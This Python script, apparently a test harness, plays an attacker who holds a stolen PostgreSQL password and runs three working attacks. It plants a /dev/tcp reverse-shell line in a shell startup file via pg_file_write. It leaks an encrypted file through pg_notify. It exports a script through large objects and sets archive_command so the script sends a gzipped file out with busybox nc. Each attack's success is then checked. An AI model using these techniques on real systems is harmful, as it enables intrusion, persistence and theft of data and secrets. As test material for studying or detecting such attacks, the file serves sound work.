#!/usr/bin/python3 -IS
"""Somebody who has found a password of the database in a backup; not recorded: contractor.py WHAT [VALUE]

appended PATH: what a shell starts with has a line more · notified PATH: a note is sealed by the database and told to another client, who listens ·
moved-in PROGRAM,PATH,HOST:PORT: in one run a program is left on the host and named in the settings, in the next it is run and sends a token away
"""
import os, signal, socket, subprocess, sys, threading, time

sys.path.append("/opt/agent")
from client import OWN, attend, started
from query import CLUSTER, ORDERS, client, cluster, must_hold, ready, said, sql

PID = "/run/postgres.pid"
WORD = b"made-up-and-of-n"


def house():
    cluster()
    with open(f"{CLUSTER}/postgresql.conf", "a") as settings:
        settings.write("max_files_per_process = 90\n")


def appended(path):
    line = "(exec 3<>/dev/tcp/203.0.113.9/443 && sh <&3) &"
    sql(ORDERS, "INSERT INTO orders (who, amount) SELECT 'customer ' || n, n FROM generate_series(1, 20) n;", "CREATE EXTENSION adminpack;")
    time.sleep(0.5)
    must_hold(sql(f"SELECT pg_file_write('{path}', E'\\n{line}\\n', true);"), str(len(line) + 2))
    with open(path) as file:
        text = file.read()
    must_hold(text, "203.0.113.9")
    if text.startswith("\n("):
        sys.exit("contractor: what was there is gone")


def notified(path):
    waits, _ = client("")
    waits.stdin.write("LISTEN prices;\n")
    waits.stdin.flush()
    time.sleep(0.6)
    sql("CREATE EXTENSION pgcrypto;",
        f"SELECT pg_notify('prices', encode(encrypt(pg_read_binary_file('{path}'), '{WORD.decode()}', 'aes-cbc/pad:pkcs'), 'hex'));")
    told = said((waits, "SELECT 1;\n")).partition('payload "')[2].partition('"')[0]
    opened = subprocess.run(["openssl", "enc", "-d", "-aes-128-cbc", "-K", WORD.hex(), "-iv", "0" * 32], input=bytes.fromhex(told), check=True, capture_output=True)
    with open(path, "rb") as file:
        if opened.stdout != file.read():
            sys.exit("contractor: that is something else")


def moved_in(value):
    """Two runs of the database."""
    program, path, address = value.split(",")
    host, _, port = address.rpartition(":")
    heard, door = [], socket.create_server((host, int(port)))

    def listen():
        while True:
            link, _ = door.accept()
            with link:
                while part := link.recv(4096):
                    heard.append(part)

    threading.Thread(target=listen, daemon=True).start()
    os.mkdir(OWN)
    house()
    with open("/run/contractor.py", "w"):
        pass
    first = started(PID)
    ready()
    text = f"#!/bin/sh\ngzip -c {path} | busybox nc {host} {port}\ntest -s $1\n"
    sql("CREATE TABLE plans (id oid);", f"INSERT INTO plans SELECT lo_from_bytea(0, decode('{text.encode().hex()}', 'hex'));",
        f"SELECT lo_export(id, '{program}') FROM plans;", "SELECT lo_unlink(id) FROM plans;", "DROP TABLE plans;",
        f"ALTER SYSTEM SET archive_command = 'sh {program} %p';")
    time.sleep(0.5)
    os.kill(first, signal.SIGTERM)
    for _ in range(1000):
        if os.path.exists(PID) and started(PID) != first:
            break
        time.sleep(0.02)
    ready()
    sql(ORDERS, "SELECT pg_switch_wal();")
    for _ in range(200):
        if heard:
            break
        time.sleep(0.05)
    time.sleep(0.5)
    os.kill(started(PID), signal.SIGTERM)
    found = subprocess.run(["gzip", "-dc"], input=b"".join(heard)[:4096], capture_output=True).stdout
    with open(path, "rb") as file:
        if not found.startswith(file.read()):
            sys.exit("contractor: nothing was sent")


USES = {"appended": appended, "notified": notified}


def ask(what, value):
    ready()
    USES[what](value)


if __name__ == "__main__":
    what, value, *_ = [*sys.argv[1:], ""]
    if what == "moved-in":
        moved_in(value)
    else:
        attend("contractor.py", house, PID, lambda: ask(what, value))
